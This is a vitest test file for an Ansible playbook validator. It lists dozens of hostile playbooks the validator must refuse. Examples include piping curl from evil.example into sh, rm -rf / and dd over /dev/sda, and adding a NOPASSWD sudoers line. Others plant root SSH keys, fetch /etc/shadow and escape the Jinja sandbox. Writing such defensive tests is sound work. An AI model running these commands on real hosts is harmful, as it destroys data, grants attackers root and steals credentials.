import { describe, expect, it } from 'vitest';
import { stringify } from 'yaml';
import type { AutomationArtifacts, AutomationHost, ValidationCheck } from '../../core/automation.js';
import { buildCommand, buildInventory } from '../../core/automation/inventory.js';
import { taskAtLine } from '../../core/automation/locate.js';
import { generateFromTemplates } from '../../core/automation/templates.js';
import { reviewPlaybook, validatePlaybook } from '../../core/automation/validate.js';

// Static validation: a table of hostile playbooks, each refused by the check that should refuse it
// and tied to its task; safe playbooks pass; high-risk changes pass but are flagged for the approver.

const hosts: AutomationHost[] = [
  { tagId: 'web-01', hostname: 'web-01.lab', address: '10.77.0.11', port: 22, user: 'root', credential: 'lab-key' },
  { tagId: 'web-02', hostname: 'web-02.lab', address: '10.77.0.12', port: 2222, user: 'deploy', credential: 'deploy-key' },
];

function artifacts(playbook: string, extra: Partial<AutomationArtifacts> = {}): AutomationArtifacts {
  return {
    playbook,
    inventory: buildInventory(hosts),
    variables: {},
    collections: [],
    command: buildCommand({ checkMode: false }),
    hosts,
    ...extra,
  };
}

const yaml = (plays: unknown) => `---\n${stringify(plays, { version: '1.1' })}`;
const play = (tasks: unknown[], keys: Record<string, unknown> = {}) => yaml([{ name: 'Test', hosts: 'all', become: true, tasks, ...keys }]);
const task = (module: Record<string, unknown>, name = 'Hostile') => ({ name, ...module });

interface Case {
  title: string;
  playbook: string;
  check: ValidationCheck;
  /** The finding's task label starts with this; null for a whole-file finding. */
  at: string | null;
  become?: boolean;
  extra?: Partial<AutomationArtifacts>;
}

const HOSTILE: Case[] = [
  {
    title: 'supervisorctl pointed at another supervisord',
    playbook: play([task({ 'community.general.supervisorctl': { name: 'app', state: 'restarted', server_url: 'http://10.0.0.9:9001' } })]),
    check: 'module-allowlist',
    at: 'play[0].tasks[0] (Hostile)',
  },
  {
    title: "supervisorctl rewriting supervisord's running configuration",
    playbook: play([task({ supervisorctl: { name: 'app', state: 'absent' } })]),
    check: 'module-allowlist',
    at: 'play[0].tasks[0]',
  },
  {
    title: 'supervisorctl stopping sshd',
    playbook: play([task({ 'community.general.supervisorctl': { name: 'sshd', state: 'stopped' } })]),
    check: 'module-allowlist',
    at: 'play[0].tasks[0]',
  },
  {
    title: 'delegate_to the controller',
    playbook: play([task({ 'ansible.builtin.ping': null, delegate_to: 'localhost' })]),
    check: 'keyword',
    at: 'play[0].tasks[0] (Hostile)',
  },
  {
    title: 'local_action',
    playbook: play([task({ local_action: 'ansible.builtin.command id' })]),
    check: 'keyword',
    at: 'play[0].tasks[0]',
  },
  {
    title: 'connection: local on the play',
    playbook: play([task({ 'ansible.builtin.ping': null })], { connection: 'local' }),
    check: 'keyword',
    at: 'play[0] (Test)',
  },
  {
    title: 'hosts: localhost',
    playbook: play([task({ 'ansible.builtin.ping': null })], { hosts: 'localhost' }),
    check: 'hosts',
    at: 'play[0]',
  },
  {
    title: 'a host outside the inventory',
    playbook: play([task({ 'ansible.builtin.ping': null })], { hosts: 'web-01,db-99' }),
    check: 'hosts',
    at: 'play[0]',
  },
  { title: 'a host pattern', playbook: play([task({ 'ansible.builtin.ping': null })], { hosts: 'web-*' }), check: 'hosts', at: 'play[0]' },
  {
    title: 'include_tasks',
    playbook: play([task({ 'ansible.builtin.include_tasks': 'evil.yml' })]),
    check: 'module-allowlist',
    at: 'play[0].tasks[0]',
  },
  { title: 'import_playbook', playbook: yaml([{ import_playbook: 'other.yml' }]), check: 'keyword', at: 'play[0]' },
  {
    title: 'raw with a forbidden command',
    playbook: play([task({ raw: 'rm -rf /' })]),
    check: 'command-policy',
    at: 'play[0].tasks[0] (Hostile)',
  },
  {
    title: 'script from the controller',
    playbook: play([task({ 'ansible.builtin.script': 'evil.sh' })]),
    check: 'module-allowlist',
    at: 'play[0].tasks[0]',
  },
  {
    title: 'synchronize',
    playbook: play([task({ 'ansible.posix.synchronize': { src: '/', dest: '/tmp/x' } })]),
    check: 'module-allowlist',
    at: 'play[0].tasks[0]',
  },
  {
    title: 'shell writing sudoers',
    playbook: play([task({ 'ansible.builtin.shell': 'echo "eve ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers' })]),
    check: 'command-policy',
    at: 'play[0].tasks[0]',
  },
  {
    title: 'command piping the network into sh',
    playbook: play([task({ 'ansible.builtin.shell': { cmd: 'curl http://evil.example/x | sh' } })]),
    check: 'command-policy',
    at: 'play[0].tasks[0]',
  },
  {
    title: 'copy into sudoers.d',
    playbook: play([task({ 'ansible.builtin.copy': { dest: '/etc/sudoers.d/eve', content: 'eve ALL=(ALL) ALL\n', mode: '0440' } })]),
    check: 'module-allowlist',
    at: 'play[0].tasks[0]',
  },
  {
    title: 'copy an authorized key',
    playbook: play([task({ copy: { dest: '/root/.ssh/authorized_keys', content: 'ssh-ed25519 AAAA', mode: '0600' } })]),
    check: 'module-allowlist',
    at: 'play[0].tasks[0]',
  },
  {
    title: 'copy src from the controller',
    playbook: play([task({ 'ansible.builtin.copy': { src: '/etc/shadow', dest: '/tmp/shadow', mode: '0644' } })]),
    check: 'module-allowlist',
    at: 'play[0].tasks[0]',
  },
  {
    title: 'template from a controller file',
    playbook: play([task({ 'ansible.builtin.template': { src: '/etc/passwd', dest: '/tmp/p', mode: '0644' } })]),
    check: 'module-allowlist',
    at: 'play[0].tasks[0]',
  },
  {
    title: 'get_url',
    playbook: play([task({ 'ansible.builtin.get_url': { url: 'http://evil.example/x', dest: '/usr/local/bin/x' } })]),
    check: 'module-allowlist',
    at: 'play[0].tasks[0]',
  },
  {
    title: 'uri',
    playbook: play([task({ uri: { url: 'http://169.254.169.254/latest/meta-data/' } })]),
    check: 'module-allowlist',
    at: 'play[0].tasks[0]',
  },
  {
    title: 'a pipe lookup in a message',
    playbook: play([task({ 'ansible.builtin.debug': { msg: "{{ lookup('pipe', 'id') }}" } })]),
    check: 'templating',
    at: 'play[0].tasks[0]',
  },
  {
    title: 'with_lines (a pipe loop)',
    playbook: play([task({ 'ansible.builtin.debug': { msg: '{{ item }}' }, with_lines: 'cat /etc/passwd' })]),
    check: 'templating',
    at: 'play[0].tasks[0]',
  },
  {
    title: 'a query in a loop',
    playbook: play([task({ 'ansible.builtin.debug': { msg: '{{ item }}' }, loop: "{{ query('fileglob', '/etc/*') }}" })]),
    check: 'templating',
    at: 'play[0].tasks[0]',
  },
  {
    title: 'a Jinja sandbox escape',
    playbook: play([task({ 'ansible.builtin.debug': { msg: "{{ ''.__class__.__mro__ }}" } })]),
    check: 'templating',
    at: 'play[0].tasks[0]',
  },
  {
    title: 'a decoded second template',
    playbook: play([task({ 'ansible.builtin.debug': { msg: "{{ 'e3sgbG9va3VwKCkgfX0=' | b64decode }}" } })]),
    check: 'templating',
    at: 'play[0].tasks[0]',
  },
  {
    title: 'become without a declaration',
    playbook: play([task({ 'ansible.builtin.ping': null })]),
    check: 'become',
    at: 'play[0]',
    become: false,
  },
  {
    title: 'become at task level',
    playbook: play([task({ 'ansible.builtin.ping': null, become: true })]),
    check: 'become',
    at: 'play[0].tasks[0]',
  },
  {
    title: 'become_user not declared',
    playbook: play([task({ 'ansible.builtin.ping': null })], { become_user: 'postgres' }),
    check: 'become',
    at: 'play[0]',
  },
  {
    title: 'vars overriding ssh arguments',
    playbook: play([task({ 'ansible.builtin.ping': null })], { vars: { ansible_ssh_common_args: '-o ProxyCommand="sh -c id"' } }),
    check: 'keyword',
    at: 'play[0]',
  },
  {
    title: 'set_fact of the python interpreter',
    playbook: play([task({ 'ansible.builtin.set_fact': { ansible_python_interpreter: '/tmp/evil' } })]),
    check: 'keyword',
    at: 'play[0].tasks[0]',
  },
  {
    title: 'check_mode: false',
    playbook: play([task({ 'ansible.builtin.command': 'systemctl restart nginx', check_mode: false })]),
    check: 'keyword',
    at: 'play[0].tasks[0]',
  },
  {
    title: 'environment LD_PRELOAD',
    playbook: play([task({ 'ansible.builtin.ping': null, environment: { LD_PRELOAD: '/tmp/x.so' } })]),
    check: 'keyword',
    at: 'play[0].tasks[0]',
  },
  {
    title: 'a forbidden command in a rescue',
    playbook: play([
      {
        name: 'Try',
        block: [task({ 'ansible.builtin.ping': null }, 'Ping')],
        rescue: [task({ 'ansible.builtin.command': 'mkfs.ext4 /dev/sda' }, 'Wipe')],
      },
    ]),
    check: 'command-policy',
    at: 'play[0].tasks[0].rescue[0] (Wipe)',
  },
  {
    title: 'an include in a handler',
    playbook: play([task({ 'ansible.builtin.ping': null }, 'Ping')], { handlers: [task({ include_tasks: 'x.yml' }, 'Evil handler')] }),
    check: 'module-allowlist',
    at: 'play[0].handlers[0] (Evil handler)',
  },
  {
    title: 'fetch in pre_tasks',
    playbook: play([], { pre_tasks: [task({ 'ansible.builtin.fetch': { src: '/etc/shadow', dest: '/tmp/' } })] }),
    check: 'module-allowlist',
    at: 'play[0].pre_tasks[0]',
  },
  {
    title: 'action: string form',
    playbook: play([task({ action: 'ansible.builtin.shell echo x >> /etc/sudoers' })]),
    check: 'command-policy',
    at: 'play[0].tasks[0]',
  },
  {
    title: 'action: mapping form',
    playbook: play([task({ action: { module: 'ansible.posix.authorized_key', user: 'root', key: 'ssh-ed25519 AAAA' } })]),
    check: 'module-allowlist',
    at: 'play[0].tasks[0]',
  },
  {
    title: 'ansible.legacy raw',
    playbook: play([task({ 'ansible.legacy.raw': 'dd if=/dev/zero of=/dev/sda' })]),
    check: 'command-policy',
    at: 'play[0].tasks[0]',
  },
  {
    title: 'an alias',
    playbook:
      '---\n- name: Test\n  hosts: all\n  vars: &v\n    x: 1\n  tasks:\n    - name: Ping\n      ansible.builtin.ping:\n      vars: *v\n',
    check: 'yaml',
    at: null,
  },
  {
    title: 'a duplicate key',
    playbook:
      '---\n- name: Test\n  hosts: all\n  tasks:\n    - name: Two shells\n      ansible.builtin.command: systemctl status nginx\n      ansible.builtin.command: rm -rf /\n',
    check: 'yaml',
    at: null,
  },
  { title: 'two documents', playbook: '---\n- hosts: all\n  tasks: []\n---\n- hosts: localhost\n  tasks: []\n', check: 'yaml', at: null },
  { title: 'not a list of plays', playbook: '---\nhosts: all\n', check: 'yaml', at: null },
  {
    title: 'a merge key',
    playbook: '---\n- name: Test\n  hosts: all\n  tasks:\n    - name: Merge\n      <<: {ansible.builtin.command: "rm -rf /"}\n',
    check: 'yaml',
    at: null,
  },
  {
    title: 'a vault tag',
    playbook: '---\n- name: Test\n  hosts: all\n  tasks:\n    - name: Vault\n      ansible.builtin.debug:\n        msg: !vault x\n',
    check: 'yaml',
    at: null,
  },
  {
    title: 'a symlink to a secret',
    playbook: play([task({ 'ansible.builtin.file': { src: '/etc/shadow', path: '/tmp/s', state: 'link' } })]),
    check: 'module-allowlist',
    at: 'play[0].tasks[0]',
  },
  {
    title: 'removing /',
    playbook: play([task({ 'ansible.builtin.file': { path: '/', state: 'absent' } })]),
    check: 'module-allowlist',
    at: 'play[0].tasks[0]',
  },
  {
    title: 'a user in the sudo group',
    playbook: play([task({ 'ansible.builtin.user': { name: 'eve', groups: ['sudo'] } })]),
    check: 'module-allowlist',
    at: 'play[0].tasks[0]',
  },
  {
    title: 'a setuid mode',
    playbook: play([task({ 'ansible.builtin.file': { path: '/usr/local/bin/x', mode: '4755' } })]),
    check: 'module-allowlist',
    at: 'play[0].tasks[0]',
  },
  {
    title: 'kernel.core_pattern',
    playbook: play([task({ 'ansible.posix.sysctl': { name: 'kernel.core_pattern', value: '|/tmp/x' } })]),
    check: 'module-allowlist',
    at: 'play[0].tasks[0]',
  },
  {
    title: 'ufw disabled',
    playbook: play([task({ 'community.general.ufw': { state: 'disabled' } })]),
    check: 'module-allowlist',
    at: 'play[0].tasks[0]',
  },
  {
    title: 'sshd stopped',
    playbook: play([task({ 'ansible.builtin.service': { name: 'sshd', state: 'stopped' } })]),
    check: 'module-allowlist',
    at: 'play[0].tasks[0]',
  },
  {
    title: 'a command built from a variable',
    playbook: play([task({ 'ansible.builtin.command': '{{ cmd }}' })]),
    check: 'command-policy',
    at: 'play[0].tasks[0]',
  },
  {
    title: 'shell with another executable',
    playbook: play([task({ 'ansible.builtin.shell': 'systemctl status nginx executable=/tmp/evil' })]),
    check: 'module-allowlist',
    at: 'play[0].tasks[0]',
  },
  {
    title: 'a noqa comment',
    playbook: play([task({ 'ansible.builtin.ping': null })]).replace('ansible.builtin.ping:', 'ansible.builtin.ping: # noqa: fqcn'),
    check: 'ansible-lint',
    at: null,
  },
  {
    title: 'vars_files',
    playbook: play([task({ 'ansible.builtin.ping': null })], { vars_files: ['/etc/ansible/secrets.yml'] }),
    check: 'keyword',
    at: 'play[0]',
  },
  { title: 'roles', playbook: play([], { roles: ['evil'] }), check: 'keyword', at: 'play[0]' },
  {
    title: 'add_host',
    playbook: play([task({ 'ansible.builtin.add_host': { name: 'evil', ansible_host: '203.0.113.1' } })]),
    check: 'module-allowlist',
    at: 'play[0].tasks[0]',
  },
  {
    title: 'register as a connection variable',
    playbook: play([task({ 'ansible.builtin.ping': null, register: 'ansible_become_password' })]),
    check: 'keyword',
    at: 'play[0].tasks[0]',
  },
  {
    title: 'meta refresh_inventory',
    playbook: play([task({ 'ansible.builtin.meta': 'refresh_inventory' })]),
    check: 'module-allowlist',
    at: 'play[0].tasks[0]',
  },
  {
    title: 'apt from a .deb URL',
    playbook: play([task({ 'ansible.builtin.apt': { deb: 'http://evil.example/x.deb' } })]),
    check: 'module-allowlist',
    at: 'play[0].tasks[0]',
  },
  {
    title: 'two modules in one task',
    playbook: play([task({ 'ansible.builtin.ping': null, 'ansible.builtin.debug': { msg: 'x' } })]),
    check: 'module-allowlist',
    at: 'play[0].tasks[0]',
  },
  {
    title: 'strategy debug',
    playbook: play([task({ 'ansible.builtin.ping': null })], { strategy: 'debug' }),
    check: 'keyword',
    at: 'play[0]',
  },
  {
    title: 'a module off the allowlist',
    playbook: play([task({ 'community.docker.docker_container': { name: 'x', image: 'evil' } })]),
    check: 'module-allowlist',
    at: 'play[0].tasks[0]',
  },
  {
    title: 'an inventory not built from the targets',
    playbook: play([task({ 'ansible.builtin.ping': null })]),
    check: 'hosts',
    at: null,
    extra: { inventory: 'all:\n  hosts:\n    web-01:\n      ansible_host: 203.0.113.9\n' },
  },
  {
    title: 'an extra variable overriding ssh arguments',
    playbook: play([task({ 'ansible.builtin.ping': null })]),
    check: 'variables',
    at: null,
    extra: { variables: { ansible_ssh_common_args: '-o ProxyCommand=id' } },
  },
  {
    title: 'a collection off the allowlist',
    playbook: play([task({ 'ansible.builtin.ping': null })]),
    check: 'module-allowlist',
    at: null,
    extra: { collections: ['evil.collection'] },
  },
  {
    title: 'a command line of its own',
    playbook: play([task({ 'ansible.builtin.ping': null })]),
    check: 'keyword',
    at: null,
    extra: { command: ['-i', 'inventory.yml', 'playbook.yml', '-e', 'ansible_connection=local'] },
  },
];

describe('validatePlaybook refuses hostile playbooks', () => {
  it('has at least 30 hostile cases', () => {
    expect(HOSTILE.length).toBeGreaterThanOrEqual(30);
  });

  for (const c of HOSTILE) {
    it(`refuses ${c.title} (${c.check})`, () => {
      const findings = validatePlaybook(artifacts(c.playbook, c.extra), { become: c.become ?? true });
      const matching = findings.filter((f) => f.check === c.check);
      expect(matching, JSON.stringify(findings)).not.toEqual([]);
      if (c.at === null) expect(matching.some((f) => f.task === null)).toBe(true);
      else
        expect(matching.map((f) => f.task)).toContainEqual(
          expect.stringMatching(new RegExp(`^${c.at.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`)),
        );
    });
  }
});

describe('validatePlaybook passes safe playbooks', () => {
  it('passes every template the generator writes', () => {
    for (const request of [
      'install nginx and make sure it runs',
      'set vm.swappiness to 10',
      'open port 443',
      'create user alice',
      'rotate /var/log/app/*.log',
    ]) {
      const generated = generateFromTemplates(request, hosts, { checkMode: false });
      if (!generated.ok) throw new Error(generated.message);
      expect(validatePlaybook(generated.artifacts, { become: generated.generation.become ?? false }), request).toEqual([]);
    }
  });

  it('runs read-only and low commands, flags a high one for the approver and refuses a forbidden one', () => {
    const review = reviewPlaybook(
      artifacts(
        play([
          task({ 'ansible.builtin.command': 'systemctl status nginx', changed_when: false }, 'Status'),
          task({ 'ansible.builtin.command': { cmd: 'systemctl restart nginx' } }, 'Restart'),
          task({ 'ansible.builtin.shell': 'cat /etc/shadow' }, 'Read shadow'),
        ]),
      ),
      { become: true },
    );
    expect(review.findings).toEqual([]);
    expect(review.flagged).toEqual([{ task: 'play[0].tasks[2] (Read shadow)', reason: expect.stringContaining('rated high') as string }]);
  });

  it('passes the service templates on supervisor hosts (supervisorctl) and on a mix of supervisor and other hosts', () => {
    const mixed = [
      { ...hosts[0]!, serviceManager: 'supervisor' },
      { ...hosts[1]!, serviceManager: 'systemd' },
    ];
    for (const targets of [[mixed[0]!], mixed]) {
      const generated = generateFromTemplates('restart labsvc', targets, { checkMode: false });
      if (!generated.ok) throw new Error(generated.message);
      expect(generated.artifacts.playbook).toContain('community.general.supervisorctl');
      expect(validatePlaybook(generated.artifacts, { become: true })).toEqual([]);
    }
  });

  it('rates a command in its chdir', () => {
    const findings = validatePlaybook(artifacts(play([task({ 'ansible.builtin.command': { cmd: 'rm -rf etc', chdir: '/' } })])), {
      become: true,
    });
    expect(findings.map((f) => f.check)).toEqual(['command-policy']);
  });

  it('allows writes into the CMDB item data path without a flag', () => {
    const playbook = play([task({ 'ansible.builtin.copy': { dest: '/srv/app/data/x.conf', content: 'x\n', mode: '0644' } }, 'Write')]);
    const withPolicy = reviewPlaybook(artifacts(playbook), { become: true, policy: { writablePaths: ['/srv/app/data'] } });
    const without = reviewPlaybook(artifacts(playbook), { become: true });
    expect(withPolicy).toEqual({ findings: [], flagged: [] });
    expect(without.flagged.map((f) => f.task)).toEqual(['play[0].tasks[0] (Write)']);
  });

  it('reports a YAML error with its line', () => {
    const findings = validatePlaybook(artifacts('---\n- name: x\n  hosts: [all\n'), { become: false });
    expect(findings[0]).toMatchObject({ check: 'yaml', task: null, message: expect.stringMatching(/^line \d+/) as string });
  });
});

describe('taskAtLine', () => {
  it('names the innermost task at a line', () => {
    const playbook = play([
      { name: 'Try', block: [task({ 'ansible.builtin.ping': null }, 'Ping')] },
      task({ 'ansible.builtin.ping': null }, 'Second'),
    ]);
    const lines = playbook.split('\n');
    expect(taskAtLine(playbook, lines.findIndex((l) => l.includes('name: Ping')) + 1)).toBe('play[0].tasks[0].block[0] (Ping)');
    expect(taskAtLine(playbook, lines.findIndex((l) => l.includes('name: Second')) + 1)).toBe('play[0].tasks[1] (Second)');
    expect(taskAtLine(playbook, 2)).toBe('play[0] (Test)');
  });
});
